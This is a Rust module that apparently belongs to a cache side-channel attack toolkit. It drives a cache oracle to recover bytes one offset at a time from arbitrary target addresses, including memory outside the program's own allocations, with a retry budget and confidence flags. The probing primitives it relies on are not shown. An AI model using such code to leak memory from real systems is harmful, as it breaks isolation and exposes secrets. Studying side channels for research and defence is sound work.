use crate::{CacheOracle, ChannelPrimitives, ProbeOutcome};

/// Whether a byte came from an unambiguous hit or was forced out of the
/// retry budget. Forced bytes are the fastest-region guess of the last
/// inconclusive scan and may well be wrong under sustained noise.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Confidence {
    High,
    Low,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct RecoveredByte {
    pub value: u8,
    pub confidence: Confidence,
}

impl RecoveredByte {
    pub fn is_suspect(&self) -> bool {
        self.confidence == Confidence::Low
    }
}

/// Drives the oracle once per target offset with a bounded retry policy:
/// a hit is accepted on the spot, an inconclusive round is retried until
/// the budget runs out, then the fallback guess is accepted as low
/// confidence. Every requested offset always produces exactly one output
/// byte.
#[derive(Debug)]
pub struct RecoveryLoop<T: ChannelPrimitives> {
    oracle: CacheOracle<T>,
}

impl<T: ChannelPrimitives> RecoveryLoop<T> {
    pub fn new(oracle: CacheOracle<T>) -> Self {
        RecoveryLoop { oracle }
    }

    pub fn oracle(&self) -> &CacheOracle<T> {
        &self.oracle
    }

    pub fn into_oracle(self) -> CacheOracle<T> {
        self.oracle
    }

    /// Recover one byte per offset, in order. Worst case work per offset is
    /// `max_inconclusive_retries + 1` probe rounds.
    ///
    /// # Safety
    ///
    /// The [`CacheOracle::probe`] contract must hold for `base + offset`
    /// for every requested offset.
    pub unsafe fn recover(
        &mut self,
        base: *const u8,
        offsets: impl IntoIterator<Item = usize>,
    ) -> Vec<RecoveredByte> {
        let mut output = Vec::new();
        for offset in offsets {
            // wrapping: the target is allowed to be outside any Rust
            // allocation, only the channel ever dereferences it
            let target = base.wrapping_add(offset);
            output.push(unsafe { self.recover_one(target) });
        }
        output
    }

    unsafe fn recover_one(&mut self, target: *const u8) -> RecoveredByte {
        let retries = self.oracle.config().max_inconclusive_retries;
        let mut inconclusive_count = 0;
        loop {
            match unsafe { self.oracle.probe(target) } {
                ProbeOutcome::Hit(value) => {
                    return RecoveredByte {
                        value,
                        confidence: Confidence::High,
                    };
                }
                ProbeOutcome::Inconclusive(guess) => {
                    inconclusive_count += 1;
                    if inconclusive_count > retries {
                        return RecoveredByte {
                            value: guess,
                            confidence: Confidence::Low,
                        };
                    }
                }
            }
        }
    }
}
